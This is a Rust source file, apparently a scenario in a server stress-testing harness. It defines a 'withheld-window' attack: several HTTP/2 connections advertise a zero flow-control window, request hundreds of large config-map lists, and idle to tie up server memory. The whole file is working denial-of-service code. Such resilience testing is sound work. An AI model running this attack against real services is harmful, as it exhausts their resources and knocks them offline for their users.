//! Lists of 20 MB for which no window is given: hundreds of answers that wait, over one connection and over many.

use std::time::{Duration, Instant};

use anyhow::Result;
use futures::future::join_all;

use crate::peers::{Http2, setting};
use crate::stage::{CONFIG_MAPS, Limits, Stage};
use crate::{Attack, Budget};

/// The attack.
pub static ATTACK: Attack = Attack {
    name: "withheld-window",
    about: "lists of 20 MB, hundreds over a connection, for which no window is given",
    budget: Budget::USUAL.with_memory(448),
    limits: Limits::NONE,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: &Stage) -> Result<()> {
    stage.fill(20, stage.pick(80_000, 1_000_000)).await?;
    let until = Instant::now() + Duration::from_secs(stage.pick(4, 60));
    let ask = async |_| {
        let mut peer = Http2::open(stage, &[(setting::INITIAL_WINDOW_SIZE, 0)]).await?;
        for stream in (1..400).step_by(2) {
            peer.get(stream, CONFIG_MAPS).await?;
        }
        // What comes is read; the connection is alive as far as anybody can tell.
        while Instant::now() < until {
            let _ = tokio::time::timeout_at(until.into(), peer.receive()).await;
        }
        anyhow::Ok(())
    };
    join_all((0..stage.pick(2, 8)).map(ask)).await;
    Ok(())
}
